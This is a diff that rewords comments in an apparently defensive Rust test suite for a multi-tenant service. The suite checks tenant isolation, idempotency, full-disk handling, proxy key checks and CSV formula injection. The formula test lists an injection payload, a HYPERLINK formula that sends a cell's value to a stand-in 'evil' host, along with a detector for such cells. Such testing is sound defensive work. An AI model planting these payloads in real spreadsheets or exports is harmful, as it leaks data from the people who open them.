@@ -1,4 +1,4 @@
-//! The attacks, each on services of its own.
+//! The attacks, each on separate services.
 
 use std::io::Write;
 use std::path::Path;
@@ -13,7 +13,7 @@ use tokio::net::TcpSocket;
 use crate::Check;
 use crate::service::{Service, make_key};
 
-/// How long a request of another tenant may take in s; the service refuses requests that waited longer for memory.
+/// Maximum time in s for a request of another tenant. The service refuses requests that wait longer for memory.
 const ANSWERED_S: f64 = 20.0;
 
 fn hertz() -> Value {
@@ -27,7 +27,7 @@ fn hertz() -> Value {
     })
 }
 
-/// A case of some 800 kB: a pressure on a fine grid.
+/// Returns a case of about 800 kB: a pressure on a fine grid.
 fn large_case() -> Value {
     let places = |half: f64, count: usize| -> Vec<f64> {
         (0..count)
@@ -64,7 +64,7 @@ fn packed(text: &str) -> Vec<u8> {
     out.finish().expect("packed")
 }
 
-/// N1: while one tenant has a table read, another sends a batch as a table, a batch as lines and a run, each of one case.
+/// N1: while one tenant's table is being read, another tenant sends a batch as a table, a batch as lines and a run, each of one case.
 pub async fn tables() -> Vec<Check> {
     let fastsim = |rows: usize| {
         let mut template = hertz();
@@ -116,7 +116,7 @@ async fn beside_table(what: &str, template: &Value, path: &str, table: &str) -> 
     let before = service.processor_s();
     let url = format!("http://{}{path}?template={template}", service.address);
     let (key, body) = (service.attacker.clone(), packed(table));
-    // A client of its own, so that the connection is closed with it.
+    // A separate client, so that its connection closes with it.
     let attack = tokio::spawn(async move {
         let request = reqwest::Client::new().post(url).bearer_auth(key);
         let request = request
@@ -127,7 +127,7 @@ async fn beside_table(what: &str, template: &Value, path: &str, table: &str) -> 
     });
     tokio::time::sleep(Duration::from_millis(1500)).await;
     let mut checks = vec![tables_of_other(&service, what, &own).await];
-    // The attacker hangs up; nobody computes for it any more.
+    // The attacker hangs up. Its work must stop.
     attack.abort();
     let status = attack.await.ok();
     for list in ["jobs", "batches", "runs"] {
@@ -166,7 +166,7 @@ async fn beside_table(what: &str, template: &Value, path: &str, table: &str) -> 
     checks
 }
 
-/// Another tenant sends a batch as a table, a batch as lines and a run, each of one case.
+/// Sends a batch as a table, a batch as lines and a run, each of one case, as another tenant.
 async fn tables_of_other(service: &Service, what: &str, own: &str) -> Check {
     let mut found = Vec::new();
     let mut holds = true;
@@ -199,7 +199,7 @@ async fn tables_of_other(service: &Service, what: &str, own: &str) -> Check {
     )
 }
 
-/// N2: six requests with one key at the same moment while others write.
+/// N2: six simultaneous requests with one key, during other writes.
 pub async fn idempotency() -> Vec<Check> {
     const KEYS: usize = 40;
     let service = Service::start(&[]);
@@ -256,7 +256,7 @@ impl Drop for Mounted<'_> {
     }
 }
 
-/// N3: the disk is full while results of a run are to be stored, although the log of the table has room.
+/// N3: the disk is full when results of a run are to be stored, although the log of the table has room.
 pub async fn full_disk() -> Vec<Check> {
     let folder = tempfile::tempdir().expect("a folder");
     let disk = tempfile::tempdir().expect("a folder");
@@ -272,7 +272,7 @@ pub async fn full_disk() -> Vec<Check> {
     }
     let _mounted = Mounted(disk.path());
     let service = Service::start_on(folder, disk.path().join("data"), &["--cache", "false"]);
-    // So many jobs that the log of the table is as long as it gets, and begins anew.
+    // With this many jobs, the log of the table reaches its maximum length and restarts.
     let many: String = (0..600).map(|_| format!("{}\n", hertz())).collect();
     let batch = service.make("/v1/batches", "application/x-ndjson", many);
     service.ended(&service.attacker, &batch.await).await;
@@ -319,7 +319,7 @@ pub async fn full_disk() -> Vec<Check> {
     vec![told, whole]
 }
 
-/// Takes all the room of a disk.
+/// Fills the disk completely.
 fn fill(path: &Path) {
     let mut file = std::fs::File::create(path).expect("a file");
     for size in [1 << 16, 1 << 10, 1] {
@@ -327,7 +327,7 @@ fn fill(path: &Path) {
     }
 }
 
-/// N4: wrong keys through a trusted proxy, and good keys of the same client and of others.
+/// N4: wrong keys through a trusted proxy, and valid keys of the same client and of others.
 pub async fn wrong_keys() -> Vec<Check> {
     let service = Service::start(&["--trusted-proxies", "127.0.0.0/8"]);
     let ask = async |key: &str, client: &str| {
@@ -376,14 +376,14 @@ pub async fn wrong_keys() -> Vec<Check> {
     ]
 }
 
-/// Would a spreadsheet compute this cell, or a reader of lines stumble over it?
+/// Returns whether a spreadsheet would evaluate this cell, or whether it contains a control character.
 fn dangerous(cell: &str) -> bool {
     let begin = cell.trim_start_matches([' ', '\t', '\r', '\n']);
     let formula = begin.starts_with(['=', '+', '-', '@']) && cell.parse::<f64>().is_err();
     formula || cell.chars().any(char::is_control)
 }
 
-/// N5: texts and names of columns that are formulas, in tables of runs and batches.
+/// N5: texts and column names that are formulas, in tables of runs and batches.
 pub async fn formulas() -> Vec<Check> {
     const TEXTS: [&str; 9] = [
         "=HYPERLINK(\"http://evil/?\"&A1)",
@@ -436,7 +436,7 @@ pub async fn formulas() -> Vec<Check> {
     checks
 }
 
-/// The cells of the results as CSV of one row with this text in the column `title`, or as its title; nothing if it is refused.
+/// Returns the cells of a one-row CSV result with this text in the column `title`, or as its title. Returns `None` if it is refused.
 async fn cells_of(service: &Service, path: &str, title: &str, text: &str) -> Option<Vec<String>> {
     let (title, cell, carry) = match title {
         "" => {
@@ -476,7 +476,7 @@ async fn cells_of(service: &Service, path: &str, title: &str, text: &str) -> Opt
     )
 }
 
-/// Bytes of the files below a folder.
+/// Returns the bytes of the files below a folder.
 fn below(folder: &Path) -> u64 {
     let entries = std::fs::read_dir(folder).into_iter().flatten().flatten();
     entries
@@ -559,7 +559,7 @@ pub async fn revoked() -> Vec<Check> {
         let read =
             tokio::time::timeout(Duration::from_secs(60), stream.read_to_end(&mut rest)).await;
         answer.extend(rest);
-        // The last chunk of a complete answer.
+        // The last chunk of a complete response.
         let complete = answer.ends_with(b"0\r\n\r\n");
         let ended = read.is_ok();
         checks.push(Check::judged(
